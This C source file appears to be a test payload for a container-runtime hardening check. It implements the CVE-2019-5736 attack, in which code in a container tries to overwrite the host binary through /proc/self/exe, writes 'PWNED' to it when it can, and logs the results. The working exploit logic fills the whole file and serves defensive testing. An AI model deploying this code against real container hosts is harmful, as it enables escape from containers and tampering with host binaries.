/*
 * payload is a container's attack on the binary that runs it (the
 * CVE-2019-5736 pattern), for tests/exeseal_test.go.
 *
 * The guest installs it as the ELF interpreter of the host binary (at the
 * PT_INTERP path, resolved in the guest's root) and replaces a program the
 * host runs in the container (/bin/sh, /sbin/init) by a script
 * "#!/proc/self/exe". The kernel resolves the interpreter line while the
 * old image is still the caller's, so it loads the host binary that did the
 * execve and maps this file as its interpreter: this code runs with
 * /proc/self/exe naming whatever the host executed.
 *
 * It appends "key=value" lines to /exeseal-report in the guest's root:
 *   exe=   readlink of /proc/self/exe
 *   ino=   dev:ino of that file
 *   seals= F_GET_SEALS on it (negative errno if it is no memfd, or
 *          unreadable)
 *   direct_open=  open O_WRONLY at once (negative errno, or 0)
 *   direct_write= if that opened, the result of writing "PWNED" to it
 * and, as anything but PID 1, forks a process that keeps an O_PATH
 * descriptor, execs this file as a program of its own (so that it no
 * longer executes the binary itself: argv "late FD") and retries
 * re-opening the descriptor for writing until no host process executes
 * it any more (ETXTBSY ends): late_open=, late_write=, then late=done.
 * As PID 1 it execs busybox init afterwards.
 *
 * Freestanding (no libc): as an interpreter it cannot rely on libc's start
 * code, which reads the main program's program headers from the auxv.
 * Build: gcc -nostdlib -static-pie -fPIE -O2 -fno-stack-protector
 * -DINTERP='"/lib64/ld-linux-x86-64.so.2"' (where the guest puts it).
 */
#define O_RDONLY 0
#define O_WRONLY 1
#define O_CREAT 0100
#define O_APPEND 02000
#define O_PATH 010000000
#define F_GET_SEALS 1034
#define ETXTBSY 26

#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_fstat 5
#define SYS_nanosleep 35
#define SYS_getpid 39
#define SYS_fork 57
#define SYS_execve 59
#define SYS_exit_group 231
#define SYS_fcntl 72
#define SYS_readlink 89
#define SYS_setsid 112

static long sys3(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

struct kstat {
	unsigned long dev, ino, nlink;
	unsigned int mode, uid, gid, pad;
	unsigned long rdev;
	long size, blksize, blocks;
	unsigned long times[6];
	long unused[3];
};

static char *num(char *p, long v)
{
	char tmp[24];
	int i = 0;

	if (v < 0) {
		*p++ = '-';
		v = -v;
	}
	do {
		tmp[i++] = (char)('0' + v % 10);
		v /= 10;
	} while (v);
	while (i)
		*p++ = tmp[--i];
	return p;
}

static char *str(char *p, const char *s)
{
	while (*s)
		*p++ = *s++;
	return p;
}

static void report(const char *key, const char *sval, long nval)
{
	char line[512], *p = line;
	long fd = sys3(SYS_open, (long)"/exeseal-report", O_WRONLY | O_CREAT | O_APPEND, 0644);

	if (fd < 0)
		return;
	p = str(p, key);
	*p++ = '=';
	p = sval ? str(p, sval) : num(p, nval);
	*p++ = '\n';
	sys3(SYS_write, fd, (long)line, p - line);
	sys3(SYS_close, fd, 0, 0);
}

static void sleep_ms(long ms)
{
	long ts[2] = {ms / 1000, (ms % 1000) * 1000000};

	sys3(SYS_nanosleep, (long)ts, 0, 0);
}

/* late waits until nothing executes the file any more and writes to it. */
static void late(const char *opath)
{
	char path[48];
	long fd, i;

	*str(str(path, "/proc/self/fd/"), opath) = '\0';
	for (i = 0; i < 1000; i++) { /* 20 s */
		fd = sys3(SYS_open, (long)path, O_WRONLY, 0);
		if (fd != -ETXTBSY)
			break;
		sleep_ms(20);
	}
	report("late_open", 0, fd < 0 ? fd : 0);
	if (fd >= 0)
		report("late_write", 0, sys3(SYS_write, fd, (long)"PWNED", 5));
	report("late", "done", 0);
	sys3(SYS_exit_group, 0, 0, 0);
}

void payload(long *sp)
{
	char **argv = (char **)(sp + 1), **envp = argv + sp[0] + 1;
	char exe[256];
	struct kstat st;
	long n, fd, opath, i;
	char idbuf[64], *p;

	if (sp[0] == 2 && argv[0][0] == 'l' && argv[0][1] == 'a' && argv[0][2] == 't' &&
	    argv[0][3] == 'e' && argv[0][4] == '\0')
		late(argv[1]);
	n = sys3(SYS_readlink, (long)"/proc/self/exe", (long)exe, sizeof(exe) - 1);
	exe[n > 0 ? n : 0] = '\0';
	report("pid", 0, sys3(SYS_getpid, 0, 0, 0));
	report("exe", exe, 0);
	/* O_PATH needs no permission on the file itself. */
	opath = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
	n = opath >= 0 ? sys3(SYS_fstat, opath, (long)&st, 0) : opath;
	if (n == 0) {
		p = num(idbuf, (long)st.dev);
		*p++ = ':';
		*num(p, (long)st.ino) = '\0';
		report("ino", idbuf, 0);
	} else {
		report("ino", 0, n);
	}
	/* F_GET_SEALS needs a real open file; the copy may be unreadable. */
	fd = sys3(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);
	report("seals", 0, fd >= 0 ? sys3(SYS_fcntl, fd, F_GET_SEALS, 0) : fd);
	fd = sys3(SYS_open, (long)"/proc/self/exe", O_WRONLY, 0);
	report("direct_open", 0, fd < 0 ? fd : 0);
	if (fd >= 0)
		report("direct_write", 0, sys3(SYS_write, fd, (long)"PWNED", 5));
	if (sys3(SYS_getpid, 0, 0, 0) == 1) {
		char *argv[] = {"init", 0};

		sys3(SYS_execve, (long)"/bin/busybox", (long)argv, (long)envp);
		report("init_exec", 0, -1);
		sys3(SYS_exit_group, 1, 0, 0);
	}
	if (opath >= 0 && sys3(SYS_fork, 0, 0, 0) == 0) {
		char *largv[] = {"late", idbuf, 0};

		*num(idbuf, opath) = '\0';
		sys3(SYS_setsid, 0, 0, 0);
		for (i = 0; i < 3; i++)
			sys3(SYS_close, i, 0, 0);
		sys3(SYS_execve, (long)INTERP, (long)largv, (long)envp);
		report("late_exec", 0, -1);
		sys3(SYS_exit_group, 1, 0, 0);
	}
	sys3(SYS_exit_group, 0, 0, 0);
}

__asm__(".globl _start\n"
	"_start:\n"
	"	mov %rsp, %rdi\n"
	"	and $-16, %rsp\n"
	"	call payload\n"
	"	hlt\n");
